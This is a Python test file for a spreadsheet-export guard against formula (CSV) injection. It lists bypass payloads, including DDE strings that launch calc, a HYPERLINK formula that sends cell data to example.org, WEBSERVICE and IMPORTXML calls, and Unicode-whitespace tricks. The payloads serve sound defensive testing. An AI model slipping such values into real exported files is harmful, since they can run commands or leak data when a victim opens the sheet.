import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from goldenthread.domain.exporting import safe_cell, unguarded

BYPASSES = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
    " =1+1", "  \t=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\u00a0=1+1", "\u00a0 \u00a0@SUM(1)", "\u3000=1+1",
    "\u2003=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200e=1+1", "\u202e=1+1", "\x00=1+1", "\x0b=1+1", "\x1f=1+1", "\u00ad=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", " \uff1d1+1", "fine\n=1+1", "fine\r=1+1", "fine\r\n=1+1",
    "fine\n \u00a0=1+1", "fine\n\n\n@SUM(1)", '=HYPERLINK("http://example.org?x="&A1,"here")', "=IMPORTXML(A1,A2)",
    "=WEBSERVICE(A1)", "-2+3+cmd|' /C calc'!D2", "%0A-3+3", "'=1+1", "''=1+1", ";=1+1", "=", "-", "@",
]  # fmt: skip
RISKY = set("=+-@\uff1d\uff0b\uff0d\uff20")
ODD = st.text(st.sampled_from([*"=+-@\t\r\n' \u00a0\uff1d\uff20\u200b\ufeffab,;\"|"]), max_size=12)
ANY = st.one_of(ODD, st.text(max_size=60))


def first_sign(line: str) -> str:
    """Return the first sign of a line that a spreadsheet would not skip."""
    return next(
        (sign for sign in line if unicodedata.category(sign) not in ("Zs", "Cc", "Cf", "Zl", "Zp")), ""
    )


@pytest.mark.parametrize("text", BYPASSES)
def test_no_line_of_a_known_bypass_begins_a_formula(text):
    for line in safe_cell(text).replace("\r", "\n").split("\n"):
        assert first_sign(line) not in RISKY


@pytest.mark.parametrize("text", BYPASSES)
def test_a_known_bypass_comes_back_as_it_was(text):
    assert unguarded(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text",
    ["good", "it's fine", "a = b", "5 - 3", "'quoted'", "", "one\n\ntwo", "me@example.org", "a\n- b"[:1]],
)
def test_plain_words_are_left_alone(text):
    assert safe_cell(text) == text


def test_a_cell_that_begins_with_a_line_end_or_tab_is_guarded():
    for text in ("\tx", "\rx", "\nx"):
        assert safe_cell(text)[0] == "'"


def test_a_very_long_run_of_spaces_takes_no_time():
    text = "a\n" + " " * 200_000 + "b"
    assert unguarded(safe_cell(text)) == text


@settings(max_examples=2_000)
@given(ANY)
def test_no_line_ever_begins_a_formula(text):
    for line in safe_cell(text).replace("\r", "\n").split("\n"):
        assert first_sign(line) not in RISKY


@settings(max_examples=2_000)
@given(ANY)
def test_the_guard_comes_off_again(text):
    assert unguarded(safe_cell(text)) == text
